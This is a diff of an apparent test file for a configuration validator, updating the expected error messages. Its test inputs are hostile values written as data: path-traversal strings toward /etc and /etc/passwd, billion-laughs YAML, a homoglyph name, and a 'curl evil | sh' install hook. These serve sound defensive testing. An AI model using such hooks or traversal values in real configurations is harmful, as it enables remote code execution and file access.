@@ -80,7 +80,10 @@ def env_case(
 
 
 E = "error: {case}/env.yaml: "
-LABEL = "is not a DNS-1123 label (lowercase letters, digits and '-', starting and ending with a letter or digit)"
+LABEL = (
+    "is not a DNS-1123 label (lowercase letters, digits and '-', starting and ending with a letter or digit, at most 63"
+    " characters)"
+)
 
 ENVIRONMENTS = [
     env_case("env-billion-laughs", laughs() + "kind: Environment\nname: dev\n", E + "holds more than", prefix=True),
@@ -158,12 +161,13 @@ ENVIRONMENTS = [
     env_case(
         "env-cluster-traversal",
         rds(RDS_OK) + "cluster: ../../in-cluster\n",
-        E + "cluster: '../../in-cluster' is not an Argo CD cluster name (lowercase letters, digits, '-' and '.')",
+        E + "cluster: '../../in-cluster' is not a DNS-1123 subdomain (lowercase letters, digits, '-' and '.', each"
+        " dot-separated part starting and ending with a letter or digit, at most 253 characters)",
     ),
     env_case(
         "env-catalog-traversal",
         environment("catalogs:\n  - name: ../rds-postgres\n"),
-        E + f"catalogs[0].name: catalog name '../rds-postgres' {LABEL}",
+        E + f"catalogs[0].name: '../rds-postgres' {LABEL}",
     ),
     env_case(
         "env-origin-branch-traversal",
@@ -173,7 +177,7 @@ ENVIRONMENTS = [
     env_case(
         "env-origin-repository-traversal",
         rds(RDS_OK) + "origin: {kind: manual, repository: ../../etc}\n",
-        E + "origin.repository: '../../etc' is not an owner/name repository",
+        E + "origin.repository: '../../etc' is not a GitHub owner/name",
     ),
     env_case(
         "env-owner-newline",
@@ -264,8 +268,9 @@ ENVIRONMENTS = [
     env_case(
         "env-secret-backend-traversal",
         datadog("{fromSecret: {backend: ../vault}}"),
-        "error: environment dev: catalog datadog-agent: parameter apiKey: fromSecret.backend '../vault' must be a"
-        " DNS-1123 label, such as vault or kubernetes",
+        "error: environment dev: catalog datadog-agent: parameter apiKey: fromSecret.backend '../vault' "
+        + LABEL
+        + "; name one such as vault or kubernetes",
     ),
     env_case(
         "env-secret-env-injection",
@@ -292,7 +297,7 @@ ENVIRONMENTS = [
     env_case(
         "env-unknown-catalog-look-alike",
         environment("catalogs:\n  - name: rds-p\u043estgres\n"),
-        E + "catalogs[0].name: catalog name 'rds-p\u043estgres' " + LABEL,
+        E + "catalogs[0].name: 'rds-p\u043estgres' " + LABEL,
     ),
     cli_case(
         "env-file-is-a-folder",
@@ -442,12 +447,12 @@ CATALOGS = [
     ),
     catalog_case(
         "catalog-name-traversal",
-        C + "catalog.yaml: name: '../tiny' is not a DNS-1123 label (lowercase letters, digits and '-', at most 63)",
+        C + f"catalog.yaml: name: '../tiny' {LABEL}",
         catalog=TINY.replace("name: tiny", "name: ../tiny"),
     ),
     catalog_case(
         "catalog-unknown-key",
-        C + "catalog.yaml: hooks: unknown field (known: apiVersion, description, kind, name, outputs, parameters,"
+        C + "catalog.yaml: hooks: unknown key (known: apiVersion, description, kind, name, outputs, parameters,"
         " templates, terraform, type, version)",
         catalog=TINY + "hooks: {preRender: 'curl evil | sh'}\n",
     ),
@@ -613,7 +618,7 @@ CONFIGS = [
     config_case(
         "config-unknown-top-key",
         config(plattform={"repository": "x"}),
-        K + f"plattform: unknown key (known: {TOP_KEYS})",
+        K + f"plattform: unknown key (did you mean platform?) (known: {TOP_KEYS})",
     ),
     config_case(
         "config-token-in-file",
@@ -634,10 +639,12 @@ CONFIGS = [
     config_case(
         "config-cluster-type",
         config(cluster__type="docker"),
-        K + "cluster.type: must be kubernetes, static or simulated",
+        K + "cluster.type: must be kubernetes, static or simulated, got 'docker'",
     ),
-    config_case("config-wrong-type", config(github={"apiUrl": 5}), K + "github.apiUrl: must be a str"),
-    config_case("config-is-a-list", "- platform\n", K + "the file: must be a mapping"),
+    config_case(
+        "config-wrong-type", config(github={"apiUrl": 5}), K + "github.apiUrl: must be a string, got the integer 5"
+    ),
+    config_case("config-is-a-list", "- platform\n", K + "must be a mapping, got a list"),
     config_case("config-billion-laughs", laughs() + config(), K + "holds more than", prefix=True),
     config_case("config-duplicate-key", config() + "catalogs: /\n", K + "line 9: duplicate key 'catalogs'"),
     config_case(
@@ -646,7 +653,11 @@ CONFIGS = [
         K + "line 1, column 11: could not determine a constructor",
         prefix=True,
     ),
-    config_case("config-merge-method", config(merge={"method": "rebase"}), K + "merge.method: must be merge or squash"),
+    config_case(
+        "config-merge-method",
+        config(merge={"method": "rebase"}),
+        K + "merge.method: must be merge or squash, got 'rebase'",
+    ),
     config_case(
         "config-timeout-words",
         config(timeouts={"wait": "forever"}),
@@ -665,7 +676,7 @@ CONFIGS = [
     config_case(
         "config-events-repository-traversal",
         config(events={"repository": "../../etc"}),
-        K + "events.repository: must be a GitHub owner/name",
+        K + "events.repository: '../../etc' is not a GitHub owner/name",
     ),
     config_case(
         "config-foreign-command-slash",
@@ -675,22 +686,22 @@ CONFIGS = [
     config_case(
         "config-branch-rule-extra-key",
         config(events={"branches": [{"pattern": "*", "template": "t.yaml", "permission": "read"}]}),
-        K + "events.branches[0]: must be a mapping with exactly pattern and template",
+        K + "events.branches[0].permission: unknown key (known: pattern, template)",
     ),
     config_case(
         "config-template-newline",
         config(events={"defaultTemplate": "envs/a.yaml\n../../etc/passwd"}),
-        K + "events.defaultTemplate: must be a one-line file path",
+        K + "events.defaultTemplate: 'envs/a.yaml\\n../../etc/passwd' is not a one-line file path",
     ),
     config_case(
         "config-missing-repository",
         config(apps={}),
-        K + "apps.repository: is required (a GitHub owner/name or a local path)",
+        K + "apps.repository: is missing: give a GitHub owner/name or a local path",
     ),
     config_case(
         "config-workspace-api",
         config(render={"workspaceApi": "tf.upbound.io/v2"}),
-        K + "render.workspaceApi: must be tf.upbound.io/v1beta1 or tf.m.upbound.io/v1beta1",
+        K + "render.workspaceApi: must be tf.upbound.io/v1beta1 or tf.m.upbound.io/v1beta1, got 'tf.upbound.io/v2'",
     ),
     config_case(
         "config-repository-nowhere",
